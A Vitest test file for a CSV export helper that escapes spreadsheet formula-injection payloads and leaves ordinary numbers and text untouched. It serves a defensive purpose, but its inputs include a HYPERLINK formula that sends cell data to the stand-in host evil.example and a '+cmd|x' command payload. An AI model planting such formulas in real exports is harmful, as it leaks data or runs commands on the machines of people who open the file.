import { describe, expect, it } from 'vitest'
import { csvCell, neutraliseFormula } from './csv.ts'

describe('CSV cells', () => {
  it('disarms text a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`,
    )
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(csvCell('+cmd|x')).toBe("'+cmd|x")
    expect(csvCell('-2+3')).toBe("'-2+3")
    expect(csvCell('\t=1')).toBe("'\t=1")
    expect(csvCell('\r=1')).toBe(`"'\r=1"`)
  })

  it('keeps numbers, plain numeric text and ordinary text as they are', () => {
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(-2.5e-7)).toBe('-2.5e-7')
    expect(neutraliseFormula('-3')).toBe('-3')
    expect(neutraliseFormula('+4.5')).toBe('+4.5')
    expect(csvCell('Palm oil; estates')).toBe('"Palm oil; estates"')
    expect(csvCell('a = b')).toBe('a = b')
    expect(csvCell(null)).toBe('')
  })
})
